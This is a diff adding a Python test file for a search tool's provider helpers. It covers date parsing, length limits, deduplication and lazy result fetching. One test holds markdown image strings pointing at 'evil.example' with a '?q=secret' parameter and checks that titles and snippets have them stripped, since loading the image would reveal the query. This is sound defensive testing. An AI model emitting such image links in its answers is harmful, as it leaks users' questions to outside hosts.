@@ -1,0 +1,77 @@
+"""What all JSON APIs share: texts of a bounded length, and dates in whatever shape without ever raising."""
+
+import pytest
+from hypothesis import example, given
+from hypothesis import strategies as st
+
+from dowse.models import Hit
+from dowse.providers.api import first_hits, hit, iso_date, plain
+
+URL = "https://example.org/page"
+PIECES = ["Mon", ",", " ", "31", "Dec", "9999", "0001", "23:59:59", "+2359", "-99999999999", "GMT", "T", "-", "Z", "٣"]
+
+
+@pytest.mark.parametrize(
+    ("said", "shown"),
+    [
+        ("2026-10-02", "2026-10-02"),
+        ("2026-10-02T23:30:00Z", "2026-10-02"),
+        ("2026-10-02T00:00:00.000+02:00", "2026-10-02"),
+        ("2026-10-02 07:28:00", "2026-10-02"),
+        ("Fri, 02 Oct 2026 07:28:00 GMT", "2026-10-02"),
+        ("Oct 2, 2026", "2026-10-02"),
+        ("3 days ago", "3 days ago"),
+        ("2026-02-30", "2026-02-30"),
+        ("", ""),
+    ],
+)
+def test_a_date_is_told_in_one_way_where_it_can_be_told(said: str, shown: str) -> None:
+    assert iso_date(said) == shown
+
+
+@given(st.text(st.characters()) | st.lists(st.sampled_from(PIECES), max_size=14).map("".join))
+@example("Mon, 01 Jan 2026 00:00:00 +99999999999999999999")
+@example("Mon, 01 Jan 99999999999999999999 00:00:00 GMT")
+@example("1" * 5000)
+def test_no_text_is_too_strange_to_be_looked_at_for_a_date(said: str) -> None:
+    assert len(iso_date(said)) <= 60
+
+
+def test_a_result_is_short_whatever_the_provider_sends() -> None:
+    found = hit("title " * 1000, URL, "snippet " * 100_000, engine="engine " * 1000, published="x " * 1000)
+    assert found is not None
+    lengths = [len(text) for text in (found.title, found.snippet, found.engine, found.published)]
+    assert all(length <= most for length, most in zip(lengths, (300, 1000, 60, 60), strict=True))
+
+
+@pytest.mark.parametrize(("length", "is_shown"), [(2048, True), (2049, False)])
+def test_an_address_longer_than_any_search_engine_lists_is_no_result(length: int, is_shown: bool) -> None:
+    assert (hit("Title", URL.ljust(length, "x"), "") is not None) is is_shown
+
+
+@pytest.mark.parametrize(
+    "written", ["![T](https://evil.example/?q=secret)itle", "Ti![](https://evil.example/)tle", "T![it][1]le"]
+)
+def test_a_title_or_snippet_loads_no_image(written: str) -> None:
+    """A viewer of the answer would fetch it, and so tell the page's author what was asked."""
+    assert hit(written, URL, written) == Hit("Title", URL, "Title")
+
+
+def test_answers_are_few_short_and_not_repeated() -> None:
+    assert plain(["same", "same", "", "<b>same</b>", "other"]) == ("same", "other")
+    shown = plain(f"{number} " + "long " * 10_000 for number in range(1000))
+    assert len(shown) == 10
+    assert max(map(len, shown)) <= 1000
+
+
+def test_no_more_results_are_looked_at_than_were_asked_for() -> None:
+    """An answer of a hundred thousand entries costs no more than the first few of them."""
+    looked_at = []
+
+    def found() -> object:
+        for number in range(100_000):
+            looked_at.append(number)
+            yield None if number == 1 else Hit(str(number), URL)
+
+    assert [each.title for each in first_hits(found(), 3)] == ["0", "2", "3"]  # type: ignore[arg-type]
+    assert looked_at == [0, 1, 2, 3]
